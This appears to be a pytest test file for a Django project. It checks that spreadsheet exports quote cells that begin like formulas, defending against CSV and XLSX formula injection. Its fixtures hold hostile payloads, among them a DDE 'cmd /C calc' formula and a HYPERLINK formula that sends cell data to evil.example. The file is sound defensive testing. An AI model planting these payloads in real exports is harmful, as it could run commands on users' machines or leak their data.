"""No formula leaves sendtrack: text that a spreadsheet would run as a formula (a risk titled
``=cmd|' /C calc'!A0``, say) comes out of every CSV and XLSX file as plain text, with OWASP's
single quote in front; numbers, negative ones too, stay numbers. Every file is read back as a
spreadsheet program would read it: openpyxl for XLSX, the csv module for CSV."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from projects.models import Risk
from sendtrack.documents import document_build_request
from sendtrack.kernel.exports import neutralised
from sendtrack.models import DocumentBuild
from tests import factories as f

pytestmark = pytest.mark.django_db

CALC = "=cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
TITLES = [CALC, HYPERLINK, *OTHERS]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MARCH = "2024-03"


@pytest.fixture
def pmo(db):
    return f.pmo_user(username="pmo")


@pytest.fixture
def risks(db):
    """A risk per would-be formula, raised in February 2024 (so March's report has them), and
    a KPI figure below zero."""
    project = f.ProjectFactory(code="SUF-01", title="+44 helpline")
    owner = f.PersonFactory(name="-Dash Owner", email="")
    for title in TITLES:
        risk = f.RiskFactory.build(
            project=project, owner=owner, title=title, raised_on=date(2024, 2, 1)
        )
        risk.description = "-1 place short of the plan"
        risk._history_date = datetime(2024, 2, 1, tzinfo=UTC)
        risk.save()
    indicator = f.IndicatorFactory(code="KPI-01")
    f.MeasurementFactory(indicator=indicator, period=date(2024, 3, 1), value=Decimal("-4.5"))
    return project


def _xlsx_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _assert_no_formula_in_xlsx(content: bytes) -> list:
    cells = _xlsx_cells(content)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    live = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert (formulas, live) == ([], [])
    for value in (c.value for c in cells if isinstance(c.value, str)):
        assert not value.startswith(FORMULA_STARTS), value
    return [c.value for c in cells]


def _csv_values(content: bytes) -> list[str]:
    text = content.decode("utf-8").removeprefix("\ufeff")
    values = [value for line in csv.reader(io.StringIO(text)) for value in line]
    for value in values:
        assert not value.startswith(FORMULA_STARTS) or value.lstrip("-").replace(".", "").isdigit()
    return values


def _api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


# The cleaner ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (CALC, "'" + CALC),
        ("+1", "+1"),
        ("-3.5", "-3.5"),
        ("-3 places", "'-3 places"),
        ("@here", "'@here"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Fine = good", "Fine = good"),
        ("", ""),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, None),
    ],
)
def test_only_text_that_would_be_a_formula_is_quoted(value, written):
    assert neutralised(value) == written


# The API's lists, records and reports ---------------------------------------------------------


def test_the_risk_list_as_xlsx_holds_the_titles_as_text(pmo, risks):
    response = _api(pmo).get("/api/v1/risks/", {"format": "xlsx"})

    assert response.status_code == 200
    values = _assert_no_formula_in_xlsx(response.content)
    assert "'" + CALC in values
    assert "'" + HYPERLINK in values


def test_the_risk_list_as_csv_holds_the_titles_as_text(pmo, risks):
    response = _api(pmo).get("/api/v1/risks/", {"format": "csv"})

    assert response.status_code == 200
    values = _csv_values(response.content)
    assert "'" + CALC in values
    assert "'" + HYPERLINK in values
    assert "'-1 place short of the plan" in values


def test_one_risk_as_csv_and_xlsx_holds_its_title_as_text(pmo, risks):
    risk = Risk.objects.get(title=HYPERLINK)
    for fmt in ("csv", "xlsx"):
        response = _api(pmo).get(f"/api/v1/risks/{risk.pk}/", {"format": fmt})
        assert response.status_code == 200
        values = (
            _csv_values(response.content)
            if fmt == "csv"
            else _assert_no_formula_in_xlsx(response.content)
        )
        assert "'" + HYPERLINK in values


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_risk_report_holds_the_titles_as_text(pmo, risks, fmt):
    response = _api(pmo).get("/api/v1/reports/risks/", {"period": MARCH, "format": fmt})

    assert response.status_code == 200
    if fmt == "csv":
        values = _csv_values(response.content)
    else:
        values = _assert_no_formula_in_xlsx(response.content)
    assert "'" + CALC in values
    assert "'" + HYPERLINK in values


def test_a_negative_figure_stays_a_number(pmo, risks):
    xlsx = _api(pmo).get("/api/v1/measurements/", {"format": "xlsx"})
    csv_ = _api(pmo).get("/api/v1/measurements/", {"format": "csv"})

    assert Decimal("-4.5") in _assert_no_formula_in_xlsx(xlsx.content)
    assert "-4.5" in _csv_values(csv_.content)


# The admin's spreadsheet export, the template and the monthly reports pack ---------------------


def test_the_admins_export_holds_the_titles_as_text_and_imports_back_unchanged(
    pmo, risks, tmp_path, capsys
):
    client = Client()
    client.force_login(pmo)

    response = client.get(reverse("spreadsheet-export"))

    assert response.status_code == 200
    values = _assert_no_formula_in_xlsx(response.content)
    assert "'" + CALC in values
    assert "'" + HYPERLINK in values
    assert "'-Dash Owner" in values
    assert "'+44 helpline" in values
    # and importing that file again changes nothing: the quote is taken off as it is read
    path = tmp_path / "export.xlsx"
    path.write_bytes(response.content)
    call_command("import_spreadsheet", str(path), "--user", "pmo")
    out = capsys.readouterr().out
    assert "Risks: 0 added, 0 changed, 5 already up to date." in out
    assert set(Risk.objects.values_list("title", flat=True)) == set(TITLES)


def test_the_template_holds_no_formula(pmo):
    client = Client()
    client.force_login(pmo)

    _assert_no_formula_in_xlsx(client.get(reverse("spreadsheet-template")).content)


def test_the_monthly_reports_pack_holds_the_titles_as_text(
    pmo, risks, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        build = document_build_request(
            build=DocumentBuild(
                kind=DocumentBuild.Kind.MONTHLY_REPORTS_PACK, parameters={"period": MARCH}
            ),
            user=pmo,
        )
    build.refresh_from_db()

    assert build.status == DocumentBuild.Status.SUCCEEDED, build.error
    with build.file.open("rb") as handle:
        values = _assert_no_formula_in_xlsx(handle.read())
    assert "'" + CALC in values
